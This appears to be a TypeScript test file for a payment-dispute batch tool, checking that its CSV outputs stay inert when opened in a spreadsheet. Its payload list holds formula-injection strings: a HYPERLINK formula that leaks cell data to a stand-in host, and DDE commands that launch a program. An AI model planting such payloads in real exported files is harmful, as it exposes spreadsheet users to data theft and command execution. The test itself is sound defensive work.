// M1 (attack review 2026-12): a bank opens the results and errors files in a spreadsheet; a cell
// that starts with =, +, -, @, a tab or a carriage return must be text there, never a formula.
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine, inert } from '../../src/batch/csvLine.js';
import { file, path, readCsv, recours } from './helpers.js';

const FORMULA = /^[=+\-@\t\r]/;
const HEADER = 'case_id,jurisdiction,payer_kind,incident_kind,incident_at,notification_at,psp_notification_means_available,as_of,transaction_id,instrument,instrument_kind,at,amount,kind,authentication,consented';
const row = (id: string, tx = 't1', instrument = 'card', amount = '100.00', kind = 'atm_withdrawal') =>
  [id, 'FR', 'consumer', 'theft', '2020-03-02T09:00+01:00', '2020-03-02T12:00+01:00', 'true', '2026-12-01', tx, instrument, 'debit_card', '2020-03-02T10:00+01:00', amount, kind, 'pin', 'false']
    .map((c) => (/[",\n\r]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',');

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "x;=cmd|' /C calc'!A0",
];

/** Every cell of a CSV text, read with the given separator (a French spreadsheet reads `;`). */
const cells = (text: string, delimiter: string): string[] =>
  (parse(text, { delimiter, relax_column_count: true, relax_quotes: true }) as string[][]).flat();

describe('batch CSV outputs are inert in a spreadsheet', () => {
  const lines = [
    HEADER,
    ...PAYLOADS.map((p, i) => row(`${p}-${i}`, `t-${p}`, `i-${p}`)),        // assessed: payloads in case_id, transaction_id
    ...PAYLOADS.map((p, i) => row(`c${i}`, p, p)),                          // assessed: payloads as transaction and instrument ids
    ...PAYLOADS.map((p, i) => row(`${p}-bad-${i}`, 't1', 'card', p, p)),    // refused: payloads in amount and kind, echoed in errors
  ];
  const input = file('inject.csv', lines.join('\n') + '\n');
  const r = recours(['batch', input, '--out', path('inject.out.csv'), '--errors', path('inject.errors.csv')]);

  it('assesses and refuses what it should', () => {
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(`${PAYLOADS.length * 3} cases (${PAYLOADS.length * 2} assessed, ${PAYLOADS.length} refused)`);
  });

  for (const name of ['inject.out.csv', 'inject.errors.csv'])
    it(`${name}: no cell starts a formula, read with "," or ";"`, () => {
      const text = readFileSync(path(name), 'utf8');
      for (const sep of [',', ';']) {
        const live = cells(text, sep).filter((c) => FORMULA.test(c));
        expect(live, `${name} read with ${sep}`).toEqual([]);
      }
    });

  it('keeps the values, behind a leading apostrophe', () => {
    const out = readCsv(path('inject.out.csv'));
    // Cells are trimmed by the reader ("\t=1+1" is the id "=1+1").
    const ids = (suffix: (i: number) => string) => PAYLOADS.map((p, i) => inert(`${p.trim()}${suffix(i)}`));
    expect(out.map((o) => o.case_id).slice(0, PAYLOADS.length)).toEqual(ids((i) => `-${i}`));
    expect(ids((i) => `-${i}`).filter((id) => !id.startsWith("'"))).toEqual(["x;'=cmd|' /C calc'!A0-6"]);
    expect(out.map((o) => o.transaction_id).slice(PAYLOADS.length)).toEqual(ids(() => ''));
    const errors = readCsv(path('inject.errors.csv'));
    expect(errors.filter((e) => e.column === 'amount').map((e) => e.case_id)).toEqual(ids((i) => `-bad-${i}`));
    // Amounts stay numbers: never negative, so never prefixed.
    for (const o of out) for (const k of ['amount', 'payer_bears', 'refund_due', 'case_disputed', 'case_payer_bears', 'case_refund_due']) expect(o[k]).toMatch(/^\d+\.\d\d$/);
  });
});

describe('csvLine', () => {
  const text = fc.string({ unit: fc.oneof(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ';', ',', '"', ' ', '\n'), fc.string({ unit: 'binary', maxLength: 1 })) });
  it('reads back as the same cells, a formula start behind one apostrophe; nothing live when split on ";"', () => {
    fc.assert(fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (row) => {
      const line = csvLine(row);
      const back = parse(line, { relax_column_count: true })[0] as string[];
      expect(back).toEqual(row.map(inert));
      expect(back.some((c) => FORMULA.test(c))).toBe(false);
      // What a `;` spreadsheet would see: each piece after a `;`, quotes and spaces before it ignored.
      for (const piece of line.split(';').slice(1)) expect(piece.replace(/^["\s]*/, '')).not.toMatch(FORMULA);
      // Nothing but apostrophes is added.
      for (const [i, c] of row.entries()) expect(back[i]!.replaceAll("'", '')).toBe(c.replaceAll("'", ''));
    }), { numRuns: 2000 });
  });
});
